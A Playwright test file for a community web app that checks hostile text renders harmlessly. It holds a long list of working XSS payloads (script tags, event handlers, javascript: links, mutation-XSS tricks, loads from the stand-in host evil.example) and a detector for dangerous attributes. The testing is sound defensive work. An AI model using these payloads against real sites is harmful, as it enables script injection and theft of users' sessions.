import { fromWirePhone } from '@/api/wirePhone';
import type { Page } from '@playwright/test';
import { type CallName, calls } from '../mocks/wire/calls';
import { type App, expect, IN_SEASON, POLICY_NOTES, test } from './support/app';
import { fillIn, type Form, forms, openForm, submitButton } from './support/forms';
import { navigateTo } from './support/pageActions';
import { openAs, signInByCookie } from './support/signInHelpers';
import { waitForReads } from './support/waitForReads';

/**
 * Hostile texts that try to run a script, to load a foreign file or to break out of their element. A script that runs sets
 * `window.__hacked`; a foreign file is requested from evil.example.
 */
const payloads: readonly string[] = [
  '<script>window.__hacked=1</script>',
  '"><script>window.__hacked=1</script>',
  "'><script>window.__hacked=1</script>",
  '</title></textarea></style><script>window.__hacked=1</script>',
  '<scr<script>ipt>window.__hacked=1</scr</script>ipt>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="window.__hacked=1">',
  '<img src=x onerror=window.__hacked=1//',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a 1x" src=x>',
  '<svg onload="window.__hacked=1"></svg>',
  '<svg><script>window.__hacked=1</script></svg>',
  '<svg><animate onbegin="window.__hacked=1" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.__hacked=1"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>top.__hacked=1</script>"></iframe></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror="window.__hacked=1">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hacked=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.__hacked=1>">',
  '<iframe src="javascript:parent.__hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="javascript:window.__hacked=1"></object>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<body onload="window.__hacked=1">',
  '<p onclick="window.__hacked=1" onmouseover="window.__hacked=1">p</p>',
  '<b style="background:url(https://evil.example/b)">b</b>',
  '<div style="position:fixed;inset:0;z-index:9999">over everything</div>',
  '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/l.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<a href="javascript:window.__hacked=1">link</a>',
  '<a href="java\tscript:window.__hacked=1">link</a>',
  '<a href="&#106;avascript:window.__hacked=1">link</a>',
  '<a href=" javascript:window.__hacked=1" target="_self">link</a>',
  '<a href="data:text/html,<script>opener.__hacked=1</script>">link</a>',
  '<a href="vbscript:window.__hacked=1">link</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">link</a>',
  '<form action="https://evil.example/"><input name=password autofocus onfocus="window.__hacked=1"></form>',
  '<input autofocus onfocus="window.__hacked=1"><button formaction="javascript:window.__hacked=1">b</button>',
  '<details open ontoggle="window.__hacked=1"><summary>s</summary></details>',
  '<video><source onerror="window.__hacked=1"></video><audio src=x onerror="window.__hacked=1">',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
  '<marquee onstart="window.__hacked=1">m</marquee>',
  '<template><script>window.__hacked=1</script></template>',
  '<p id="root"></p><p id="main" name="firstCalls"></p>',
  '<!--><script>window.__hacked=1</script>-->',
  '<![CDATA[<script>window.__hacked=1</script>]]>',
  '<?xml version="1.0"?><x onclick="window.__hacked=1">x</x>',
  '&lt;script&gt;window.__hacked=1&lt;/script&gt; &amp; &quot;',
  'javascript:window.__hacked=1',
  '${window.__hacked=1} {{constructor.constructor("window.__hacked=1")()}} #{7*7} <%= 7*7 %>',
  '"-(window.__hacked=1)-" \'-(window.__hacked=1)-\' `-(window.__hacked=1)-`',
  '\\u003cscript\\u003ewindow.__hacked=1\\u003c/script\\u003e',
  '__proto__',
  'constructor',
  'abc\u202Egnp.exe\u202C \u2066x\u2069 \u200Fא',
  'Z\u0351\u036B\u0343a\u0334\u0318l\u0336go \u{1F469}\u200D\u{1F469}\u200D\u{1F466} \uD83D',
  'Wolfeschlegelsteinhausenbergerdorff'.repeat(8),
];

/** A payload that works only as the whole text: as an address, or as the name of a property. */
const isWhole = (text: string) => /^(?:\w+:\S*|__proto__|constructor)$/.test(text);

/**
 * All payloads in few texts. A place that rendered one of a text's payloads as HTML would not contain the text any more.
 * Payloads that work only as the whole text are alone.
 */
const payloadTexts: readonly string[] = [
  ...payloads.filter(isWhole),
  payloads.filter((text) => !isWhole(text)).join(' '),
];

test.use({
  startsAt: IN_SEASON,
  // Nothing here depends on motion, and drawing it takes time.
  contextOptions: { reducedMotion: 'reduce' },
  expectedConsole: new RegExp(`status of 400|${POLICY_NOTES.source}`),
});

/** Dialogs, windows and foreign requests that a payload has caused. */
let alarms: string[] = [];

test.beforeEach(({ page, context, app }) => {
  alarms = [];
  page.on('dialog', (dialog) => {
    // The browser's own question about a request that was typed and not sent (rule: kept-request).
    const isQuestion = dialog.type() === 'beforeunload';
    if (!isQuestion) alarms.push(`dialog: ${dialog.message()}`);
    void (isQuestion ? dialog.accept() : dialog.dismiss());
  });
  context.on('request', (request) => {
    if (!request.url().startsWith(app.url)) alarms.push(`request: ${request.url()}`);
  });
  page.on('popup', () => alarms.push('popup'));
});

/** The marks of scripts that have run, and the elements with an event handler, with a script address or not allowed in rich text. */
const dangerousElements = (page: Page) =>
  page.evaluate(() => {
    const schemes = ['javascript:', 'data:', 'vbscript:'];
    const found: string[] = ['hacked', '__hacked']
      .filter((name) => Object.hasOwn(window, name))
      .map((name) => `a script has set ${name}`);
    for (const element of document.querySelectorAll('*'))
      for (const { name, value } of element.attributes) {
        // A browser ignores blanks and control characters before and within a scheme.
        const address = value.replace(/[^!-~]/g, '').toLowerCase();
        if (name.startsWith('on')) found.push(element.outerHTML);
        if (schemes.some((scheme) => address.startsWith(scheme)) && name !== 'value')
          found.push(element.outerHTML);
      }
    const forbidden =
      '.rich-text :is(script, style, iframe, object, embed, img, svg, math, form, input, button, link, meta, base, video, audio, template, [style], [id], [class]:not(.rich-text__heading), [ping])';
    for (const element of document.querySelectorAll(forbidden)) found.push(element.outerHTML);
    for (const link of document.querySelectorAll('.rich-text a[href]'))
      if (link.getAttribute('rel') !== 'noopener noreferrer') found.push(link.outerHTML);
    return found;
  });

async function expectHarmless(page: Page, app: App) {
  expect(await dangerousElements(page)).toEqual([]);
  expect(alarms).toEqual([]);
  expect(page.url().startsWith(app.url)).toBe(true);
}

/** Polls every 10 ms, because each payload is shown within a few milliseconds. */
const pollFast = <T>(read: () => Promise<T>) => expect.poll(read, { intervals: [10] });

type Json = Record<string, unknown>;

/** Changes each answer of a call before the page receives it. */
async function changeAnswers(page: Page, call: CallName, change: (answer: Json) => Json) {
  const path = calls[call].path.replace(/:.*/, '');
  await page.route(new RegExp(path), async (route) => {
    const response = await route.fetch();
    const answer: Json = await response.json();
    await route.fulfill({ response, json: change(answer) });
  });
}

const isRich = (text: string) => /<\/?(?:a|b|p|div|table|body|details)\b|&(?:\w+|#\d+);/i.test(text);
const texts = async (page: Page, selector: string) => page.locator(selector).allTextContents();

test.describe('in the scenario with hostile texts', () => {
  test.use({ scenario: 'hostile' });

  test(
    'no screen runs a script of the hostile scenario, and the home shows the name as text',
    { tag: '@daily' },
    async ({ page, app }) => {
      await openAs('demo', page, app, '/');
      await expect(page.getByText('People coming', { exact: true }).first()).toBeVisible();
      expect(await texts(page, 'h1')).toEqual([
        'Welcome <script>window.hacked = true</script> abc\u202Egnp.exe',
      ]);
      for (const path of [
        '/units-open',
        '/policies',
        '/account',
        '/contact',
        '/winterize',
        '/dewinterize',
        '/join/join-valid',
      ]) {
        await expectHarmless(page, app);
        await page.goto(app.url + path);
        await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
        await expect(page.getByRole('main').getByRole('status', { name: 'Loading' })).toHaveCount(0);
      }
      await expectHarmless(page, app);
    },
  );
});

test('hostile rows, holidays and notes are shown as text on the home and on Units open', async ({
  page,
  app,
}) => {
  await changeAnswers(page, 'getUser', (user) => ({
    ...user,
    upcomingHolidays: payloads
      .slice(0, 12)
      .map((text, index) => ({
        name: text,
        displayName: text,
        date: `2026-11-${index + 10}`,
        emoji: text,
        rocordId: text,
      })),
  }));
  await changeAnswers(page, 'getColony', (colony) => ({
    ...colony,
    notes: [...payloads, '<b>the end</b>'].map((text) => ({ _id: text, content: text })),
  }));
  const rows = payloads.map((text, index) => ({
    _id: text,
    user_id: text,
    user_name: text,
    unit: text,
    poeple_count: 1,
    reservedMussaf: index === 0,
    baalKorah: index < 2,
    preparedFor: index === 0 ? '1-4' : '5-end',
  }));
  await changeAnswers(page, 'getMinyan', () => ({
    upcomingShabbos: rows,
    upcomingHolidays: payloads.slice(0, 12).map((text) => ({ date_title: text, users: rows.slice(0, 3) })),
    futureShabbos: [{ date: '2026-11-07', users: rows }],
  }));
  await openAs('demo', page, app, '/');
  await expect(page.getByText('the end')).toBeVisible();
  const lead = 'sign up for minyan for ';
  const titles = (await texts(page, '.event-panel h2')).filter((title) => title.startsWith(lead));
  expect(titles.map((title) => title.slice(lead.length))).toEqual(payloads.slice(0, 12));
  const notes = await texts(page, 'section > .stack > li');
  // A note without any text is left out.
  // Pictures, and what an editor leaves in a text, such as a script, are not shown (rule: rich-text).
  const isLeftOut = /<(?:!|\?|style|script|title|xml)|<(?:img|base|link|meta|picture|source)\b[^<>]*>/i;
  const isShownAsWritten = (text: string) => !isRich(text) && !isLeftOut.test(text);
  expect(payloads.filter(isShownAsWritten)).toHaveLength(20);
  for (const text of payloads) if (isShownAsWritten(text)) expect(notes).toContain(text);
  await expect(page.getByText(`Reserved by ${payloads[0]}`).first()).toBeVisible();
  await expectHarmless(page, app);

  await page.getByRole('link', { name: 'Units open' }).click();
  await expect(page.getByRole('table').first().getByRole('row')).toHaveCount(payloads.length + 1);
  // By the keyboard, because the button moves down until the tables above it have all their rows and fonts.
  await page.getByRole('button', { name: 'Show future Shabbosim signups' }).press('Enter');
  const future = page.getByRole('table').last();
  await expect(future.getByRole('row')).toHaveCount(payloads.length + 1);
  for (const table of [page.getByRole('table').first(), future]) {
    expect(await table.locator('tbody th bdi').allTextContents()).toEqual(payloads);
    expect(await table.locator('tbody td:nth-of-type(1)').allTextContents()).toEqual(payloads);
  }
  await expectHarmless(page, app);
});

test('no number, however long, makes a page wider than the window (rule: loose-wire-values)', async ({
  page,
  app,
}) => {
  const men = Number.MAX_SAFE_INTEGER;
  const holidays = ['Rosh Hashana', 'Yom Kippur', 'Sukkos', 'Purim'];
  await changeAnswers(page, 'getUser', (user) => ({
    ...user,
    balance: 1e300,
    unit: men * men,
    phone: men * men,
    first_name: men * men,
    last_name: men * men,
    upcomingHolidays: holidays.map((name, index) => ({ name, date: `2026-11-${index + 10}` })),
  }));
  await changeAnswers(page, 'getMinyan', () => {
    const row = { poeple_count: men, unit: men * men, user_name: men * men, baalKorah: true };
    const users = [
      { ...row, user_id: app.backend.db.members.find(({ username }) => username === 'demo')?.id },
      { ...row, user_id: men, reservedMussaf: true },
    ];
    return {
      upcomingShabbos: users,
      upcomingHolidays: holidays.map((title) => ({ date_title: title, users })),
      futureShabbos: [{ date: '2026-11-07', users }],
    };
  });
  await signInByCookie(page, app);
  for (const width of [320, 390]) {
    await page.setViewportSize({ width, height: 844 });
    for (const path of ['/', '/units-open', '/account', '/winterize', '/contact']) {
      await page.goto(app.url + path);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await waitForReads(page);
      const overhang = await page.evaluate(() => {
        const { clientWidth, scrollWidth } = document.documentElement;
        return scrollWidth - clientWidth;
      });
      expect(overhang, `${path} at ${width} px`).toBe(0);
    }
  }
});

test('hostile policies are shown as text on Policies', async ({ page, app }) => {
  await changeAnswers(page, 'getColony', (colony) => ({
    ...colony,
    policies: payloads.map((text) => ({ _id: text, title: text, content: `${text}<b>the end</b>` })),
  }));
  await openAs('demo', page, app, '/policies');
  await expect(page.getByText('the end').first()).toBeVisible();
  expect(await texts(page, 'h2 bdi')).toEqual(payloads);
  await expectHarmless(page, app);
});

/** Makes the page read its data again. SWR ignores a focus within five seconds of the previous one, so the clock moves first. */
async function revalidate(page: Page) {
  await waitForReads(page);
  await page.clock.fastForward(6_000);
  await page.evaluate(() => window.dispatchEvent(new Event('focus')));
}

test.describe('hostile fields of the member and the community are shown as text', () => {
  let text = 'Yaakov';

  /** Puts each text in turn into every field of an open page and runs the expectation. */
  async function forEachText(page: Page, app: App, expectText: () => Promise<void>) {
    await expectText();
    for (text of payloadTexts) {
      await revalidate(page);
      await expectText();
      await expectHarmless(page, app);
    }
  }

  test.beforeEach(async ({ page }) => {
    text = 'Yaakov';
    await changeAnswers(page, 'getUser', (user) => ({
      ...user,
      first_name: text,
      last_name: text,
      email: text,
      phone: text,
      username: text,
      unit: text,
      notifications: text,
      notificationMethod: text,
      upcomingShabbos: text,
    }));
    await changeAnswers(page, 'getColony', (colony) => ({
      ...colony,
      name: text,
      email: text,
      shulOpenAt: [text],
    }));
  });

  test('on the account, contact and home screens', async ({ page, app }) => {
    await openAs('demo', page, app, '/account');
    await forEachText(page, app, async () => {
      await pollFast(() => page.locator('h1').textContent()).toBe(`${text} ${text}`);
      for (const label of ['Username', 'Unit', 'Last name', 'Email'])
        await pollFast(() => page.getByLabel(label, { exact: true }).inputValue()).toBe(text);
      // Without what no phone number has (rule: phone-country-code).
      await pollFast(() => page.getByLabel('Phone', { exact: true }).inputValue()).toBe(fromWirePhone(text));
    });

    await page.goto(`${app.url}/contact`);
    await forEachText(page, app, async () => {
      await pollFast(() => texts(page, 'main dd')).toContain(text);
    });

    await page.goto(app.url);
    await forEachText(page, app, async () => {
      await pollFast(() => page.locator('h1').textContent()).toBe(`Welcome ${text} ${text}`);
      await pollFast(() => texts(page, '.welcome__community')).toEqual([text]);
    });
  });
});

test('a hostile username in an invitation is shown as text', async ({ page, app }) => {
  let text = '';
  await page.route('**/api/join/tekenVerify/*', (route) =>
    route.fulfill({ json: { suggestedUsername: text } }),
  );
  await page.goto(`${app.url}/join/first`);
  for (text of payloadTexts) {
    await navigateTo(page, `/join/${payloadTexts.indexOf(text)}`);
    await pollFast(() => page.getByLabel('Username').inputValue()).toBe(text);
    await expectHarmless(page, app);
  }
});

async function expectTextOfRefusal(form: Form, page: Page, app: App) {
  // An element that rendered one of the payloads as HTML would not contain this text.
  const text = payloads.join('\n');
  const pattern = `**${calls[form.call].path}`;
  await page.route(pattern, (route) =>
    route.request().method() === 'POST'
      ? route.fulfill({ status: 400, json: { error: text } })
      : route.continue(),
  );
  await page.context().clearCookies();
  await openForm(form, page, app);
  await fillIn(form, page);
  await submitButton(form, page).evaluate((element: HTMLButtonElement) => element.click());
  await pollFast(() => texts(page, '.form-status__error')).toContain(text);
  await pollFast(() => submitButton(form, page).isEnabled()).toBe(true);
  await expectHarmless(page, app);
  await page.unroute(pattern);
}

test('the hostile reason of a refusal is shown as text at each form', async ({ page, app }) => {
  for (const form of Object.values<Form>(forms))
    await test.step(form.name, () => expectTextOfRefusal(form, page, app));
});
